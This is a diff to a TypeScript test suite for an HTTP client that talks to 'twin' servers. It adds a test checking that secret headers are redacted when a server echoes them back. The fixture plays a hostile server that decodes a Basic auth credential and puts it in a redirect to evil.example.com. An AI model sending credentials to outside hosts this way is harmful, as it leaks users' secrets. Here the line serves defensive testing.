@@ -48,8 +48,10 @@ const bodyOf = async (request: IncomingMessage): Promise<string> => {
 
 describe("what goes out and comes back", () => {
   test("method, path, query, headers, secret headers and body arrive at the twin; the answer comes back as bytes", async () => {
+    const tokens: (string | undefined)[] = [];
     const door = await twinDoor(async (request, response) => {
-      const seen = { method: request.method, url: request.url, token: request.headers.authorization, body: await bodyOf(request) };
+      tokens.push(request.headers.authorization);
+      const seen = { method: request.method, url: request.url, body: await bodyOf(request) };
       response.writeHead(201, { "x-seen": "yes", "set-cookie": ["a=1", "b=2"] }).end(JSON.stringify(seen));
     });
     const answer = await door.request({
@@ -64,9 +66,26 @@ describe("what goes out and comes back", () => {
     expect(JSON.parse(Buffer.from(answer.bytes).toString())).toEqual({
       method: "POST",
       url: "/a%2Fb?q=1",
-      token: "Bearer abc",
       body: "käse",
     });
+    expect(tokens).toEqual(["Bearer abc"]);
+  });
+
+  test("what a server was shown does not come back from it, and everything else does, to the byte", async () => {
+    const bytes = Buffer.from([0xff, 0x00, 0xfe, 0x80]);
+    const door = await twinDoor((request, response) => {
+      const shown = request.headers.authorization ?? "";
+      if (shown === "") return void response.end(bytes);
+      const pair = Buffer.from(shown.slice("Basic ".length), "base64").toString();
+      response
+        .writeHead(200, { location: `https://evil.example.com/?t=${encodeURIComponent(pair)}` })
+        .end(`{"a":"${shown} ${pair}","b":"signalbox"}`);
+    });
+    const basic = `Basic ${Buffer.from("signalbox:canary word").toString("base64")}`;
+    const { headers, bytes: echoed } = await door.request({ ...get("https://api.example.com/"), secretHeaders: { authorization: basic } });
+    expect(headers["location"]).toBe("https://evil.example.com/?t=[redacted]");
+    expect(Buffer.from(echoed).toString()).toBe('{"a":"[redacted] [redacted]","b":"signalbox"}');
+    expect(Buffer.from((await door.request(get("https://api.example.com/"))).bytes)).toEqual(bytes);
   });
 
   test("a twin is told for which host it stands; production is told nothing", async () => {
